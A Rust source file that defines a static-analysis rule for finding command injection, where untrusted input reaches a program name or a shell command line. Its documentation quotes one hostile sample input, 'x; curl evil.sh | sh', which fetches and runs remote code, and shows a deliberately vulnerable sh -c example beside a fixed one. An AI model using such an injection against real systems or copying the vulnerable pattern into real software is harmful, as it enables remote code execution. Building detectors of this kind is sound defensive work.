use crate::rules::prelude::*;
use crate::rules::taint::{PatternSafety, TaintSpec};

declare_rule! {
    /// ### What it does
    /// Finds untrusted input — request data, command-line arguments, files,
    /// stdin — that reaches the program run by
    /// `std::process::Command::new` (or tokio's), or the command line of a
    /// shell started with `sh -c` / `cmd /C`. The path from source to sink
    /// is followed through variables, `format!`, method chains, and helper
    /// functions in other modules and files.
    ///
    /// A regex match (anchored at both ends) makes a value safe when no
    /// matched value can hold a shell metacharacter, a quote or whitespace,
    /// nor start with `-` (an option). It does not make a program name safe
    /// to choose. Values that reach only an error (`Err(..)`, `bail!`) do
    /// not count.
    ///
    /// A value that only chose the directory of the program's path
    /// (`Command::new(Path::new(&dir).join("render"))`, also through a helper
    /// that builds the path) does not choose the program: the code names it,
    /// and is not reported at `Command::new`. The same path in a shell's
    /// command line still is, and a value joined on (`base.join(&name)`)
    /// chooses the program. Before that, the real-world benchmark's one
    /// finding of this rule was such a path: a book directory from the
    /// command line joined with a renderer named in the book's own config.
    ///
    /// Environment variables are not sources by default: naming the
    /// program or command line to run in the environment (`$EDITOR`,
    /// `$PAGER`, `$CARGO`, `GIT_SSH_COMMAND`, a deploy hook) is the
    /// convention, and whoever sets the environment can already run what
    /// they like. `sources = [..., "environment"]` in the rule's settings
    /// reports them too. Before that, the real-world benchmark had 8
    /// findings of this kind, all false: an environment variable naming the
    /// program, `$CARGO`, `$EDITOR`, an agent binary.
    ///
    /// ### Why is this bad?
    /// A shell interprets `;`, `|`, `$(…)` and quotes: input like
    /// `x; curl evil.sh | sh` runs the attacker's commands with the
    /// service's rights. Choosing the program from input is as bad.
    /// Arguments passed with `.arg(…)` to a fixed, non-shell program are not
    /// interpreted by a shell and are not reported.
    ///
    /// ### Example
    /// ```rust
    /// use std::process::Command;
    ///
    /// fn main() {
    ///     let archive = std::env::args().nth(1).unwrap_or_default();
    ///     let _ = Command::new("sh").arg("-c").arg(format!("tar czf {archive} /data")).status();
    /// }
    /// ```
    ///
    /// ### Use instead
    /// ```rust
    /// use std::process::Command;
    ///
    /// fn main() {
    ///     let archive = std::env::args().nth(1).unwrap_or_default();
    ///     let _ = Command::new("tar").arg("czf").arg(&archive).arg("/data").status();
    /// }
    /// ```
    ///
    /// ### References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    /// - CWE-77: Command Injection
    /// - OWASP Top 10 2021 A03: Injection
    pub(crate) CommandInjection {
        id: "command-injection",
        name: "CommandInjection",
        summary: "untrusted input reaches a program name or a shell command line",
        severity: Critical,
        precision: High,
        measured: [
            Realworld { findings: 0, judged: 0, tp: 0, debatable: 0, when: "session 9 (278dd1f)" },
            Corpus { findings: 0, judged: 0, tp: 0, debatable: 0, when: "session 8 (a328b37)" },
        ],
        cwe: [78, 77],
        owasp: [A03],
        tags: ["injection", "taint"],
        options: [crate::rules::taint::sources_option("remote, network, command-line, stdin, file")],
    }
}

/// Its sinks are the crate models' `rule = "command-injection"` entries (`lints/models/`).
const SPEC: TaintSpec = TaintSpec {
    pattern: Some(PatternSafety {
        chars: ";|&$`<>(){}[]*?~!#'\"\\^%",
        no_space: true,
        first: "-",
        values: &[],
    }),
    ..TaintSpec::new()
};

crate::taint_rule!(CommandInjection, SPEC);
